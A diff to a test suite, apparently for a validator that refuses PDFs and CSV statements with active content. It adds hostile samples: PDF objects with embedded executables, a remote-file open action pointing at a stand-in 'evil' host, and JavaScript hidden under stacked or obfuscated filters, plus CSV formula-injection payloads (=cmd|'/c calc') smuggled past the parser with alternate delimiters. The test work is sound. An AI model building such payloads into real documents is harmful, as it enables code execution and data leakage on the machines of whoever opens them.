@@ -34,6 +34,10 @@ const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
 
 const locked = '\ntrailer << /Encrypt 9 0 R >>';
 
+/** Each byte less the one before it, as the predictors of pictures write them. */
+const differences = (plain: Uint8Array) =>
+  plain.map((byte, at) => byte - (at > 0 ? (plain[at - 1] ?? 0) : 0));
+
 /** Bytes that no program reads, as of a photo. */
 const noise = Buffer.from(
   Array.from({ length: 200_000 }, (_, n) => (Math.imul(n + 1, 2654435761) >>> 16) & 0xff),
@@ -50,6 +54,15 @@ describe('threat 58: a PDF can do nothing to the person who opens it', () => {
     ['a file inside', '1 0 obj << /Type/EmbeddedFile /Length 3 >> endobj'],
     ['a list of files inside', '1 0 obj << /Names << /EmbeddedFiles 3 0 R >> >> endobj'],
     ['rich media', '1 0 obj << /Subtype /RichMedia >> endobj'],
+    ['a file as a note', '1 0 obj << /Subtype /FileAttachment /FS 3 0 R >> endobj'],
+    ['a file beside a name', '1 0 obj << /F (a.exe) /EF << /F 3 0 R >> >> endobj'],
+    [
+      'a file of another host',
+      String.raw`1 0 obj << /AA << /O << /S /GoToR /F (\\\\evil\\a) >> >> >> endobj`,
+    ],
+    ['a file inside to open', '1 0 obj << /OpenAction << /S /GoToE /T 3 0 R >> >> endobj'],
+    ['a form that sends itself', '1 0 obj << /OpenAction << /S /SubmitForm /F (x) >> >> endobj'],
+    ['a form that fetches', '1 0 obj << /OpenAction << /S /ImportData /F (x) >> >> endobj'],
     ['a form with scripts', '1 0 obj << /AcroForm << /XFA 4 0 R >> >> endobj'],
   ])('a PDF with %s is refused', (_, objects) => {
     expect(pdfProblem(pdf(objects))).toBe('active');
@@ -83,6 +96,51 @@ describe('threat 58: a PDF can do nothing to the person who opens it', () => {
       'compressed in a way that is not read here',
       stream(`${OBJECTS} /LZWDecode`, Buffer.from('x')),
     ],
+    [
+      'compressed twice',
+      stream(
+        '/Type /ObjStm /Filter [/FlateDecode /FlateDecode]',
+        deflateSync(deflateSync(Buffer.from(`5 0 ${script}`))),
+      ),
+    ],
+    [
+      'compressed, in letters of numbers',
+      compressed(
+        Buffer.from(`5 0 ${script}`).toString('hex'),
+        '/Type /ObjStm /Filter [/FlateDecode /ASCIIHexDecode]',
+      ),
+    ],
+    [
+      'compressed, under a filter that is named elsewhere',
+      compressed(Buffer.from(script).toString('hex'), '/Type /ObjStm /Filter 8 0 R'),
+    ],
+    [
+      'compressed, as differences',
+      stream(
+        `${OBJECTS} /DecodeParms << /Predictor 12 >>`,
+        deflateSync(differences(Buffer.from(`5 0 ${script}`))),
+      ),
+    ],
+    [
+      'in letters of numbers, in a stream without a name',
+      stream(
+        '/N 1 /First 4 /Filter /ASCIIHexDecode',
+        Buffer.from(Buffer.from(`5 0 ${script}`).toString('hex')),
+      ),
+    ],
+    [
+      'compressed, behind a long line and before another stream',
+      bytes(
+        `\n7 0 obj << ${OBJECTS} >> stream${' '.repeat(200)}\n`,
+        deflateSync(Buffer.from(`5 0 ${script}`)),
+        '\nendstream endobj',
+        compressed('q', '/Filter /FlateDecode'),
+      ),
+    ],
+    [
+      'in a stream whose name stands behind the word in a text',
+      bytes('\n7 0 obj << /X (stream) /Type /ObjStm /Filter /LZWDecode >> stream\n', noise),
+    ],
     ['compressed and broken', stream(OBJECTS, bytes(Buffer.from([0x78, 0x9c]), noise))],
     ['compressed and as large as no objects are', compressed(`5 0 ${' '.repeat(20_000_000)}`)],
     ['in the bytes of a stream that is not compressed', stream('/Length 9', bytes(script))],
@@ -100,6 +158,21 @@ describe('threat 58: a PDF can do nothing to the person who opens it', () => {
     ['with a form', '1 0 obj << /AcroForm << /Fields [] >> >> endobj'],
     ['with names that begin alike', '1 0 obj << /JSX 1 /LaunchPad 2 /JavaScripts 3 >> endobj'],
     ['with compressed objects', compressed('5 0 << /Type /Page >>')],
+    [
+      'with compressed objects in a list of one filter, behind a signature',
+      bytes(
+        '1 0 obj << /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached >> endobj',
+        compressed('5 0 << /Type /Page >>', '/Type /ObjStm /Filter [ /FlateDecode ]'),
+      ),
+    ],
+    [
+      'with chapters before a picture and a profile',
+      bytes(
+        '1 0 obj << /Type /Outlines /First 2 0 R >> endobj 2 0 obj << /AP << /N 3 0 R >> >> endobj',
+        stream('/Subtype /Image /Filter /DCTDecode', noise),
+        stream('/N 3 /Filter /DCTDecode', noise),
+      ),
+    ],
     ['with a compressed page', compressed('1 0 0 1 72 720 cm BT (Paid in) Tj ET', '/FlateDecode')],
     ['with a picture', stream('/Subtype /Image /Filter /DCTDecode', noise)],
     [
@@ -163,6 +236,20 @@ describe('threat 58: no cell of a CSV statement is computed', () => {
       expect(csvProblem(text)).toBe('active');
     },
   );
+
+  it.each([
+    ['commas', `Date,Amount\n1;"2,=cmd|'/c calc'!A1,3"\n`],
+    ['semicolons', `Date;Amount\n1,"2;=cmd|'/c calc'!A1;3"\n`],
+    ['tabs', `Date\tAmount\n1,"2\t=cmd|'/c calc'!A1\t3"\n`],
+    ['a delimiter that the file names', 'sep=|\nDate,Amount\n1,2|=SUM(A1:A9)\n'],
+    ['a delimiter that the file names in quotes', '"sep=#"\nDate,Amount\n1,2#=SUM(A1:A9)\n'],
+  ])('no other delimiter hides a cell of a CSV statement from a spreadsheet of %s', (_, text) => {
+    expect(csvProblem(text)).toBe('active');
+  });
+
+  it('a CSV statement that names a delimiter of ours is accepted', () => {
+    expect(csvProblem('sep=;\nDate;Amount\n1;"2,5"\n')).toBeNull();
+  });
 
   it.each([
     '-500',
